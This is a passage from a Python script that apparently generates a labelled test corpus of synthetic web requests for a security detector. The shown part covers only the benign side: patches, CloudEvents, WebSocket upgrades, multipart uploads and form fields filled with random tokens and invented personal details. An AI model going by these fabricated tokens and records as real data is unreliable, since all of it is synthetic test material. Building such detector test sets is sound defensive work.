        c.req("benign", "es-msearch", "POST", "search.quickcart.dev:9200", "/_msearch", "\n".join(lines) + "\n",
              "application/x-ndjson", sub=S, accept="json", ua="es-py", extra=[("Authorization", "ApiKey " + c.b64(40))])
    for i in range(5):
        lines = []
        for _ in range(c.num(3, 7)):
            lines.append(jd({"timestamp": c.ts(), "level": c.pick(["info", "info", "debug", "warn", "error"]),
                             "logger": c.pick(["puma", "sidekiq", "rails"]), "request_id": c.uuid(),
                             "message": c.pick(["Completed 200 OK in 42ms (Views: 11.2ms | ActiveRecord: 8.1ms)",
                                                "Started GET \"/products?q%5Bname_cont%5D=boots\" for 10.0.3.17",
                                                "Enqueued ActionMailer::MailDeliveryJob (Job ID: 4f2a) to Sidekiq(mailers)",
                                                "Redis connection reset; reconnecting (attempt 1)",
                                                "User 4412 updated shipping address"]),
                             "kubernetes": {"namespace": "shop", "pod": f"web-{c.lower(5)}"}}))
        c.req("benign", "log-shipper-batch", "POST", "logs.quickcart.dev", "/ingest/v1/batch", "\n".join(lines) + "\n",
              "application/x-ndjson", sub=S, accept="json", ua=c.pick(["vector", "fluentbit"]),
              extra=[("Authorization", "Bearer " + c.alnum(40))])
    for i in range(3):
        lines = [jd({"custom_id": f"req-{j}", "method": "POST", "url": "/v1/chat/completions",
                     "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Summarise this review in 10 words: " + any_review(c)}]}})
                 for j in range(c.num(2, 4))]
        c.req("benign", "jsonl-import", "POST", H_EXPRESS, "/api/v1/imports?format=jsonl", "\n".join(lines) + "\n",
              "application/jsonl", sub=S, accept="json", ua="python", extra=[("Authorization", "Bearer " + c.jwt())])


def ben_patch(c):
    S = "patch"
    for i in range(8):
        ops = c.pick([
            [{"op": "replace", "path": "/email", "value": c.pick(EMAILS)}, {"op": "replace", "path": "/phone", "value": c.pick(PHONES)}],
            [{"op": "test", "path": "/version", "value": c.num(1, 30)}, {"op": "add", "path": "/tags/-", "value": "vip"}],
            [{"op": "remove", "path": "/addresses/1"}, {"op": "move", "from": "/addresses/2", "path": "/addresses/0"}],
            [{"op": "replace", "path": "/notes", "value": any_text(c)}],
            [{"op": "copy", "from": "/billing_address", "path": "/shipping_address"}],
            [{"op": "add", "path": "/preferences/newsletter~1weekly", "value": True}, {"op": "replace", "path": "/displayName", "value": " ".join(c.pick(NAMES))}],
        ])
        c.req("benign", "json-patch", "PATCH", c.pick([H_SPRING, H_EXPRESS, H_ASPNET]), f"/api/v1/customers/{c.num(1, 99999)}",
              jd(ops), "application/json-patch+json", sub=S, accept="json", ua=c.pick(["chrome", "axios", "python", "okhttp"]),
              extra=[("Authorization", "Bearer " + c.jwt()), ("If-Match", f'"{c.hex(16)}"')])
    for i in range(5):
        first, last, email, phone, a = person(c)
        obj = c.pick([{"displayName": f"{first} {last}", "bio": any_text(c), "avatarUrl": None},
                      {"address": {"street": a["street"], "city": a["city"], "postalCode": a["zip"], "country": a["country"]}},
                      {"preferences": {"language": c.pick(["fr-CA", "pt-BR", "ja"]), "units": "metric", "marketing": None}}])
        c.req("benign", "merge-patch", "PATCH", c.pick([H_SPRING, H_EXPRESS]), f"/api/users/{c.num(1, 99999)}", jd(obj),
              "application/merge-patch+json", sub=S, accept="json", ua=c.pick(["chrome", "axios", "go"]),
              extra=[("Authorization", "Bearer " + c.jwt())])
    for i in range(2):
        obj = {"spec": {"replicas": c.num(2, 8), "template": {"metadata": {"annotations": {
            "kubectl.kubernetes.io/restartedAt": c.ts()}}}}}
        c.req("benign", "k8s-strategic-merge-patch", "PATCH", "kubernetes.default.svc",
              f"/apis/apps/v1/namespaces/shop/deployments/{c.pick(['web', 'worker'])}?fieldManager=kubectl-rollout",
              jd(obj), "application/strategic-merge-patch+json", sub=S, accept="json",
              ua="kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", extra=[("Authorization", "Bearer " + c.jwt())])


def ben_cloudevents(c):
    S = "cloudevents"
    for i in range(7):
        kind = c.pick(["order", "gcs", "github", "ping"])
        if kind == "order":
            typ, src, data = "com.fleetops.order.created", "/orders/api", {"orderId": f"ord_{c.alnum(14)}", "total": round(c.r.random() * 500, 2),
                                                                          "currency": "EUR", "customer": {"name": " ".join(c.pick(NAMES))},
                                                                          "shipTo": c.pick(ADDRESSES)}
        elif kind == "gcs":
            typ, src = "google.cloud.storage.object.v1.finalized", "//storage.googleapis.com/projects/_/buckets/fleetops-uploads"
            data = {"bucket": "fleetops-uploads", "name": f"invoices/2025/06/INV-{c.num(10000, 99999)}.pdf", "contentType": "application/pdf",
                    "size": str(c.num(10000, 900000)), "md5Hash": c.b64(16), "timeCreated": c.ts()}
        elif kind == "github":
            typ, src = "com.github.pull_request.opened", "https://github.com/fleetops/api"
            data = {"number": c.num(100, 2000), "title": c.pick(["Fix 'select all' in vehicle table", "Bump rails from 7.1.3 to 7.1.4",
                                                                  "Drop support for Node 16 (EOL)"]), "user": "maria-k"}
        else:
            typ, src, data = "dev.knative.sources.ping", "/apis/v1/namespaces/default/pingsources/nightly", {"message": "Hello world!"}
        c.req("benign", "binary-mode", "POST", "broker-ingress.knative-eventing.svc.cluster.local", "/fleetops/default", jd(data), JSON,
              sub=S, accept=None, ua=c.pick(["knative", "dapr", "go"]),
              extra=[("ce-specversion", "1.0"), ("ce-type", typ), ("ce-source", src), ("ce-id", c.uuid()), ("ce-time", c.ts()),
                     ("ce-subject", c.pick(["orders/10482", "invoices", "pull/1412", "nightly"])),
                     ("traceparent", f"00-{c.hex(32)}-{c.hex(16)}-01")])
    for i in range(5):
        ev = {"specversion": "1.0", "type": c.pick(["com.fleetops.ticket.commented", "com.fleetops.vehicle.serviced"]),
              "source": "/support/tickets", "id": c.uuid(), "time": c.ts(), "datacontenttype": "application/json",
              "subject": f"ticket/{c.num(100, 9999)}",
              "data": {"ticket": c.num(100, 9999), "author": " ".join(c.pick(NAMES)), "comment": any_text(c)}}
        c.req("benign", "structured-mode", "POST", "events.fleetops.io", "/api/events", jd(ev),
              "application/cloudevents+json; charset=UTF-8", sub=S, accept="json", ua=c.pick(["knative", "node", "dapr"]))
    for i in range(3):
        evs = [{"specversion": "1.0", "type": "com.fleetops.telemetry.odometer", "source": f"/vehicles/{c.num(1, 900)}",
                "id": c.uuid(), "time": c.ts(), "datacontenttype": "application/json",
                "data": {"km": c.num(1000, 400000), "fuel_pct": c.num(3, 100), "lat": round(53.3 + c.r.random() / 10, 5),
                         "lon": round(-6.2 - c.r.random() / 10, 5)}} for _ in range(c.num(2, 5))]
        c.req("benign", "batch-mode", "POST", "events.fleetops.io", "/api/events/batch", jd(evs),
              "application/cloudevents-batch+json; charset=UTF-8", sub=S, accept="json", ua="go")


def ben_sse(c):
    S = "sse"
    for i in range(4):
        xs = [("Cache-Control", "no-cache")]
        if i % 2:
            xs.append(("Last-Event-ID", str(c.num(1000, 99999))))
        c.req("benign", "event-stream", "GET", c.pick([H_RAILS, H_DJANGO, H_EXPRESS]),
              c.pick(["/events", "/api/v1/notifications/stream", f"/orders/{c.num(1, 9000)}/status/stream"]),
              sub=S, accept="sse", cookie=c.cookie("express"), ua=c.pick(BROWSERS), extra=xs)
    c.req("benign", "mercure-subscribe", "GET", "hub.dailyharbor.news",
          "/.well-known/mercure?topic=" + uric("https://cms.dailyharbor.news/articles/{id}") + "&topic=" + uric("https://cms.dailyharbor.news/live-blog/42"),
          sub=S, accept="sse", ua="chrome", extra=[("Cache-Control", "no-cache")])
    c.req("benign", "graphql-sse", "GET", H_GQL,
          "/graphql/stream?query=" + uric("subscription OnOrder($id: ID!) { orderStatusChanged(id: $id) { status eta } }")
          + "&variables=" + uric(jd({"id": f"gid://shop/Order/{c.num(1000, 9999)}"})), sub=S, accept="sse", ua="chrome")
    sid = c.b64(15, url=True, pad=False)
    c.req("benign", "socketio-polling-handshake", "GET", H_EXPRESS, f"/socket.io/?EIO=4&transport=polling&t={c.alnum(7)}",
          sub=S, accept="any", origin="https://app.quickcart.dev", ua="chrome")
    c.req("benign", "socketio-polling-connect", "POST", H_EXPRESS, f"/socket.io/?EIO=4&transport=polling&t={c.alnum(7)}&sid={sid}",
          "40" + jd({"token": c.jwt()}), TEXT_PLAIN, sub=S, accept="any", origin="https://app.quickcart.dev", ua="chrome")
    for i in range(2):
        c.req("benign", "socketio-polling-message", "POST", H_EXPRESS, f"/socket.io/?EIO=4&transport=polling&t={c.alnum(7)}&sid={sid}",
              "42" + jd(["chat message", {"room": "general", "text": any_text(c)}]), TEXT_PLAIN, sub=S, accept="any",
              origin="https://app.quickcart.dev", ua="chrome")
    c.req("benign", "signalr-longpoll-get", "GET", H_ASPNET, f"/hubs/chat?id={c.b64(16, url=True, pad=False)}&_={c.epoch() * 1000}",
          sub=S, accept="any", ua="edge", extra=[("X-Requested-With", "XMLHttpRequest"), ("X-SignalR-User-Agent", TOOLS["signalr"])])
    c.req("benign", "long-poll-since", "GET", H_HTMX, f"/api/board/{c.num(1, 40)}/changes?since={c.epoch()}&timeout=25",
          sub=S, accept="json", ua="safari")


def ben_websocket(c):
    S = "websocket"
    specs = [(H_RAILS, "/cable", "actioncable-v1-json, actioncable-unsupported", "rails"),
             (H_PHOENIX, f"/live/websocket?_csrf_token={c.phoenix_token()}&_track_static%5B0%5D=https%3A%2F%2F{H_PHOENIX}%2Fassets%2Fapp.css&_mounts=0&vsn=2.0.0", None, "phoenix"),
             (H_EXPRESS, f"/socket.io/?EIO=4&transport=websocket&sid={c.b64(15, url=True, pad=False)}", None, "express"),
             (H_ASPNET, f"/hubs/chat?id={c.b64(16, url=True, pad=False)}", None, "aspnet"),
             (H_GQL, "/graphql", "graphql-transport-ws", None),
             (H_ASPNET, f"/_blazor?id={c.b64(16, url=True, pad=False)}", None, "aspnet"),
             (H_DJANGO, "/ws/chat/lobby/", None, "django"),
             (H_HASURA, "/v1/graphql", "graphql-ws", None),
             ("realtime.fitlog.app", f"/realtime/v1/websocket?apikey={c.jwt()}&vsn=1.0.0", None, None),
             (H_NEXT, "/ws/notifications", None, "next"),
             (H_LARAVEL, f"/app/{c.lower(20)}?protocol=7&client=js&version=8.4.0-rc2&flash=false", None, "laravel"),
             (H_HTMX, "/ws/board/12", None, "htmx")]
    for host, path, proto, ck in specs:
        xs = [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"),
              ("Sec-WebSocket-Key", c.b64(16)), ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits")]
        if proto:
            xs.append(("Sec-WebSocket-Protocol", proto))
        xs.append(("Cache-Control", "no-cache"))
        c.req("benign", "upgrade-" + path.strip("/").split("/")[0].split("?")[0], "GET", host, path, sub=S, accept=None,
              origin=f"https://{host}", ua=c.pick(BROWSERS),
              cookie=c.cookie(ck) if ck else None, extra=xs)


PNG_1x1 = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf"
                        "c0f01f0005000201e2c8e6f50000000049454e44ae426082")
JPEG_STUB = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes(range(64)) + bytes.fromhex("ffc00011080001000103012200021101031101ffda000c03010002110311003f00d2cf20ffd9")


def ben_multipart(c):
    S = "multipart"
    csv = "sku,name,price,stock\nTB2-42,Trailblazer 2 Hiking Boot,149.00,12\nMCS-3,\"Merino Crew Sock (3-pack)\",24.50,80\nNRJ-M,Nimbus Rain Jacket,189.00,0\n"
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Apple Inc.//macOS 14.5//EN\r\nBEGIN:VEVENT\r\nUID:" + c.uuid() +
           "\r\nDTSTART:20250620T090000Z\r\nDTEND:20250620T100000Z\r\nSUMMARY:Q2 exec summary review\r\nLOCATION:Union Station\\, Room 4B\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    vcf = "BEGIN:VCARD\r\nVERSION:3.0\r\nN:O'Connor;Siobh\u00e1n;;;\r\nFN:Siobh\u00e1n O'Connor\r\nTEL;TYPE=CELL:+353 1 555 0199\r\nEMAIL:siobhan@example.ie\r\nEND:VCARD\r\n"
    md = "# Packing list\n\n- [x] passport\n- [ ] adapters (UK & EU)\n- [ ] sunscreen 50+\n\n> Don't forget the charger!\n"
    js = jds({"version": 2, "theme": "dark", "shortcuts": {"search": "Ctrl+K", "new": "N"}})
    txt = "Hi team,\n\nAttached are the minutes. Action items: (1) select a venue, (2) drop the old logo, (3) update the union station signage.\n\nThanks,\nAna\n"
    files = [("inventory.csv", "text/csv", csv), ("meeting.ics", "text/calendar", ics), ("contact.vcf", "text/vcard", vcf),
             ("packing-list.md", "text/markdown", md), ("settings.json", "application/json", js), ("minutes.txt", "text/plain", txt)]
    for i in range(12):
        sel = c.r.sample(files, c.num(2, 4))
        host, tok, ck = c.pick([(H_RAILS, ("authenticity_token", c.rails_token()), c.cookie("rails")),
                                (H_DJANGO, ("csrfmiddlewaretoken", c.django_token()), c.cookie("django")),
                                (H_LARAVEL, ("_token", c.laravel_token()), c.cookie("laravel")),
                                (H_EXPRESS, ("_csrf", c.b64(27, url=True, pad=False)), c.cookie("express"))])
        parts = [tok, ("title", c.pick(["June uploads", "Docs for the offsite", "Caf\u00e9 inventory", "Misc."])),
                 ("description", any_text(c))]
        fname = "attachments[]" if host in (H_RAILS, H_LARAVEL, H_EXPRESS) else "attachments"
        parts += [(fname, fn, ct, body) for fn, ct, body in sel]
        c.mp("benign", "several-files", "POST", host, c.pick(["/documents", "/projects/12/files", "/uploads"]), parts, sub=S,
             origin=True, cookie=ck, ua=c.pick(BROWSERS))
    for i in range(4):
        img, ctype, fn = c.pick([(PNG_1x1, "image/png", "avatar.png"), (JPEG_STUB, "image/jpeg", "IMG_2041.jpg")])
        host, tok = c.pick([(H_RAILS, ("authenticity_token", c.rails_token())), (H_DJANGO, ("csrfmiddlewaretoken", c.django_token()))])
        parts = [tok, ("caption", c.pick(["Me at Union Station \U0001F686", "Our new caf\u00e9 sign!", "Before & after"])),
                 ("photo", fn, ctype, img), ("receipt", "receipt.txt", "text/plain", "Order 10482 - paid by card\n")]
        c.mp("benign", "binary-image-files", "POST", host, "/photos", parts, sub=S, raw=True, origin=True, ua=c.pick(BROWSERS))
    ops = jd({"query": "mutation ($files: [Upload!]!) { uploadDocuments(files: $files) { id url } }",
              "variables": {"files": [None, None]}})
    c.mp("benign", "graphql-multipart-request", "POST", H_GQL, "/graphql",
         [("operations", ops), ("map", jd({"0": ["variables.files.0"], "1": ["variables.files.1"]})),
          ("0", "inventory.csv", "text/csv", csv), ("1", "minutes.txt", "text/plain", txt)], sub=S, accept="gql",
         ua="chrome", extra=[("apollo-require-preflight", "true")])
    c.mp("benign", "next-action-file", "POST", H_NEXT, "/account/documents",
         [("1_title", "Passport scan (expires 2031)"), ("1_file", "passport.png", "image/png", PNG_1x1), ("0", '["$K1"]')],
         sub=S, bkind="webkit", raw=True, accept="rsc", origin=True, extra=[("Next-Action", c.next_action_id())])
    c.mp("benign", "wp-media-upload", "POST", H_WP, "/wp-admin/async-upload.php",
         [("name", "tomatoes-week9.jpg"), ("action", "upload-attachment"), ("_wpnonce", c.hex(10)), ("post_id", str(c.num(100, 999))),
          ("async-upload", "tomatoes-week9.jpg", "image/jpeg", JPEG_STUB)], sub=S, raw=True, origin=True, cookie=c.cookie("wp"))
    c.mp("benign", "django-admin-file", "POST", H_DJANGO, f"/admin/clinic/document/{c.num(1, 900)}/change/",
         [("csrfmiddlewaretoken", c.django_token()), ("title", "Referral letter \u2013 Dr. O'Brien"),
          ("file", "referral.txt", "text/plain", "Dear colleague,\n\nPlease see Mr. N\u00fa\u00f1ez re: knee pain (L).\n"), ("_save", "Save")],
         sub=S, origin=True, cookie=c.cookie("django"))


# ==========================================================================
# BENIGN: what people write, through the same carriers the attacks use
# ==========================================================================

TEXT_CARRIERS = [car_rails_form, car_rails_json, car_django_form, car_drf_json, car_livewire2, car_livewire3, car_inertia,
                 car_next_action, car_next_action_mp, car_graphql, car_ndjson, car_gzip_json, car_json_patch,
                 car_merge_patch, car_ce_structured, car_ce_binary, car_htmx_form, car_htmx_json, car_wp_content,
                 car_mp_field, car_phoenix_form, car_liveview, car_aspnet_form, car_nest_json, car_socketio, car_signalr,
                 car_spring_json, car_deflate_form]
QUERY_CARRIERS = [car_rails_query, car_django_lookup, car_django_admin, car_next_rsc, car_next_data, car_qs_bracket,
                  car_apollo_get, car_hasura, car_strapi, car_directus, car_spring_query, car_wp_query, car_odata,
                  car_graphql, car_json_cookie, car_get_param]


def run_carriers(c, sub, items, carriers, fields):
    c.default_sub = sub
    cars = list(carriers)
    c.r.shuffle(cars)
    for i, item in enumerate(items):
        slug, text = item[0], item[1]
        field = item[2] if len(item) > 2 else fields[i % len(fields)]
        car = cars[i % len(cars)]
        if car is car_odata:
            text = text.replace("'", "''")
        car(c, "benign", f"{slug}-{car.__name__[4:].replace('_', '-')}", field, text)
    c.default_sub = None


def ben_content(c):
    items = [("review", t) for t in REVIEWS_EN] + [("comment", t) for t in COMMENTS]
    items = [it for it in items if "{{" not in it[1] and "*|" not in it[1]]
    c.r.shuffle(items)
    run_carriers(c, "content", items[:38], TEXT_CARRIERS, ["body", "comment", "review", "message", "note", "bio", "description"])
    # merge tags in a CMS / marketing context
    for t in [x for x in COMMENTS if "{{" in x or "*|" in x]:
        c.json("benign", "email-template-merge-tags", "PUT", H_STRAPI, f"/api/email-templates/{c.num(1, 40)}",
               {"data": {"name": "Order shipped", "subject": "Your order is on its way \U0001F69A", "body": t}}, sub="content",
               extra=[("Authorization", "Bearer " + c.hex(64))])


def ben_i18n(c):
    items = [("review", t) for t in REVIEWS_I18N]
    run_carriers(c, "i18n", items, TEXT_CARRIERS, ["body", "comment", "review", "message"])
    for slug in ["caf\u00e9-au-lait-becher", "\u6771\u4eac-\u30ac\u30a4\u30c9", "\u0627\u0644\u0642\u0627\u0647\u0631\u0629",
                 "s\u00e3o-paulo", "z\u00fcrich-altstadt"]:
        c.req("benign", "unicode-path", "GET", H_NEXT, f"/{c.pick(['en', 'de', 'ja', 'ar', 'pt-BR'])}/guides/{q(slug)}", sub="i18n",
              accept="html", ua=c.pick(BROWSERS), lang=c.pick(LANGS))
    for fn in ["R\u00e9sum\u00e9 \u2013 Ana N\u00fa\u00f1ez (2025).pdf", "\u4f1a\u8b70\u30e1\u30e2 6\u6708.pdf",
               "O'Brien invoice 4412.pdf", "\u0641\u0627\u062a\u0648\u0631\u0629-\u064a\u0648\u0646\u064a\u0648.pdf"]:
        c.default_sub = "i18n"
        car_mp_filename(c, "benign", "unicode-filename", "file", fn)
        c.default_sub = None


def ben_search(c):
    items = [("query", s) for s in SEARCHES]
    run_carriers(c, "search", items[:26], QUERY_CARRIERS, ["q", "name", "title", "search", "term", "keyword"])


def ben_contact(c):
    items = []
    for i in range(15):
        first, last, email, phone, a = person(c)
        field, val = c.pick([("full_name", f"{first} {last}"), ("email", email), ("phone", phone), ("street", a["street"]),
                             ("address", f"{a['street']}, {a['zip']} {a['city']}"),
                             ("company", c.pick(["Acme & Sons Ltd.", "O'Reilly Auto Parts", "Caf\u00e9 de l'Union",
                                                 "Smith, Jones & Partners LLP"])),
                             ("website", c.pick(LINKS))])
        items.append(("contact-" + field.replace("_", "-"), val, field))
    run_carriers(c, "contact", items, TEXT_CARRIERS, ["full_name", "email", "phone", "street", "address", "company", "website"])


BENIGN = [ben_rails, ben_django, ben_laravel, ben_next, ben_spring, ben_aspnet, ben_express, ben_phoenix, ben_wordpress,
          ben_strapi, ben_htmx, ben_graphql, ben_compressed, ben_utf16, ben_ndjson, ben_patch, ben_cloudevents, ben_sse,
          ben_websocket, ben_multipart, ben_content, ben_i18n, ben_search, ben_contact]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-frameworks.py attacks|benign > FILE.jsonl\n")
        return 2
    if argv[1] == "attacks":
        c, gens = Corpus(SEED_ATTACKS, "detect"), ATTACKS
    else:
        c, gens = Corpus(SEED_BENIGN, "pass"), BENIGN
    for g in gens:
        g(c)
    ids = [row["id"] for row in c.rows]
    assert len(ids) == len(set(ids)), "duplicate ids"
    for row in c.rows:
        sys.stdout.write(json.dumps(row, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
